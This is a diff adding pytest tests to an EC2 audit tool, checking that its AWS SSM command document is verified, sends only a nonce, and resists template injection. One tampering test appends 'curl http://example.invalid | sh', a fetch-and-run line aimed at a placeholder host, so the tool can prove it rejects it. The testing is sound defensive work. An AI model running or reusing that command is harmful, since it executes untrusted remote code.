@@ -197,3 +197,61 @@ def test_auto_takes_online_managed_hosts_for_ssm_and_leaves_the_rest_to_ssh():
     assert split_for_auto([a, b, c], regs) == ([a], [b, c])
     assert ssh_side("auto", has_key=True) == "ssh" and ssh_side("auto", has_key=False) == "eic"
     assert ssh_side("ssm", has_key=True) is None and ssh_side("eic", has_key=True) == "eic"
+
+
+# ------------------------------------------------------------------ the audit's own document (include/ssm_document.py)
+
+class FakeSsmWithDocument(FakeSsm):
+    def __init__(self, managed, document_content: str, **kw):
+        super().__init__(managed, **kw)
+        self.document_content = document_content
+
+    def get_document(self, Name, DocumentFormat):
+        self._count("get_document")
+        return {"Name": Name, "DocumentVersion": "7", "Content": self.document_content}
+
+
+def test_with_the_audit_document_only_the_nonce_travels_and_the_checked_version_is_sent():
+    import json
+
+    from include import ssm_document
+
+    h = host(1)
+    fake = FakeSsmWithDocument({h.instance_id: "Online"}, json.dumps(ssm_document.content("echo checks\n")))
+    out, transport = run(fake, [h], SsmSettings(poll_s=0.01, document="EC2Audit-ReadOnlyChecks", command_timeout=30))
+    sent = fake.sent[0]
+    assert (sent["DocumentName"], sent["DocumentVersion"]) == ("EC2Audit-ReadOnlyChecks", "7")
+    assert set(sent["Parameters"]) == {"nonce", "executionTimeout"}
+    assert sent["Parameters"]["nonce"] == [out[h.instance_id].nonce]
+    assert out[h.instance_id].transport_status is None
+    assert out[h.instance_id].transport_evidence["ssm_document"] == "EC2Audit-ReadOnlyChecks:7"
+
+
+def test_a_document_that_is_not_this_release_s_script_runs_nowhere():
+    import json
+
+    from include import ssm_document
+
+    h = host(1)
+    tampered = ssm_document.content("echo checks\n")
+    tampered["mainSteps"][0]["inputs"]["runCommand"].append("curl http://example.invalid | sh")
+    fake = FakeSsmWithDocument({h.instance_id: "Online"}, json.dumps(tampered))
+    out, _ = run(fake, [h], SsmSettings(poll_s=0.01, document="EC2Audit-ReadOnlyChecks"))
+    assert out[h.instance_id].transport_status == Status.ERROR
+    assert "does not hold this release's audit script" in out[h.instance_id].transport_detail
+    assert fake.sent == []
+
+
+def test_the_document_holds_the_script_with_the_nonce_as_its_only_free_input():
+    from include import ssm_document
+    from include.checks.catalogue import SCRIPT
+    from include.checks.probes import NONCE_VAR
+
+    doc = ssm_document.content(SCRIPT)
+    step = doc["mainSteps"][0]
+    assert step["action"] == "aws:runShellScript" and step["name"] == ssm_document.STEP
+    assert "\n".join(step["inputs"]["runCommand"][1:]) + "\n" == SCRIPT
+    assert step["inputs"]["runCommand"][0] == f"{NONCE_VAR}={{{{ nonce }}}}"
+    assert doc["parameters"]["nonce"]["allowedPattern"] == "^[0-9a-f]{32}$"
+    with pytest.raises(ValueError):
+        ssm_document.content("echo {{ injected }}\n")
